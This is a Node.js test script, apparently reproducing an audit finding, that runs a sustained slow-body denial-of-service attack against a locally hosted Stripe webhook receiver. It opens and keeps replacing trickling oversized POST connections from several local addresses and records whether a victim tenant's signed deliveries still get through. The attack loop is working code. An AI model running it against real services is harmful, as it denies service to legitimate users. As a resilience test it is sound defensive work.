// Finding b, sustained: the slow connections of b-slow-bodies.mjs, but each one the server closes is
// replaced at once, for SUSTAIN_SECONDS (default 30), from ATTACKER_ADDRESSES (default 6 addresses:
// 2 large-body slots each, more than WEBHOOK_LARGE_BODY_SLOTS = 8). Meanwhile the victim (127.0.0.3)
// sends a signed 100 KB delivery every second (Stripe would retry far less often): how many of them
// are taken, and whether its first one after the attacker stops is.
import { connect } from 'node:net';
import {
  alive,
  BASE,
  countBy,
  eventText,
  JSON_TYPE,
  receiverPath,
  report,
  rss,
  send,
  sign,
  sleep,
  tenant,
} from './lib.mjs';

const addresses = (
  process.env.ATTACKER_ADDRESSES ?? '127.0.0.2,127.0.0.4,127.0.0.5,127.0.0.6,127.0.0.7,127.0.0.8'
).split(',');
const sustainMs = Number(process.env.SUSTAIN_SECONDS ?? 30) * 1000;
const target = new URL(BASE);
const victim = await tenant('sustained-victim');

let attacking = true;
let opened = 0;
const sockets = new Set();
function openSlow(i) {
  opened++;
  const socket = connect({
    host: target.hostname,
    port: Number(target.port),
    localAddress: addresses[i % addresses.length],
  });
  sockets.add(socket);
  socket.on('connect', () =>
    socket.write(
      `POST ${receiverPath(victim.projectId)} HTTP/1.1\r\nHost: ${target.host}\r\nContent-Type: application/json\r\n` +
        `Stripe-Signature: t=1,v1=00\r\nContent-Length: ${1024 * 1024 - 1024}\r\n\r\n{`,
    ),
  );
  socket.on('error', () => {});
  const timer = setInterval(() => !socket.destroyed && socket.write(' '), 2000);
  socket.on('close', () => {
    clearInterval(timer);
    sockets.delete(socket);
    if (attacking) openSlow(i);
  });
}
for (let i = 0; i < 12; i++) openSlow(i);
await sleep(500);

/** The victim's signed 100 KB delivery from another address: its status (0 when the connection failed). */
const deliver = async () => {
  const { payload } = eventText(JSON.stringify({ description: 'x'.repeat(100_000) }));
  const { status } = await send(
    'POST',
    receiverPath(victim.projectId),
    { ...JSON_TYPE, 'Stripe-Signature': sign(payload, victim.webhookSecret) },
    payload,
    { localAddress: '127.0.0.3' },
  );
  return status;
};

const during = [];
const end = Date.now() + sustainMs;
while (Date.now() < end) {
  during.push(await deliver());
  await sleep(1000);
}
attacking = false;
for (const s of sockets) s.destroy();
await sleep(500);
const after = await deliver();

report('b: slow bodies, sustained', {
  attackerAddresses: addresses.length,
  sustainSeconds: sustainMs / 1000,
  slowConnectionsOpened: opened,
  victimDuringAttack: countBy(during),
  victimAfterAttack: after,
  up: await alive(),
  ...rss(),
});
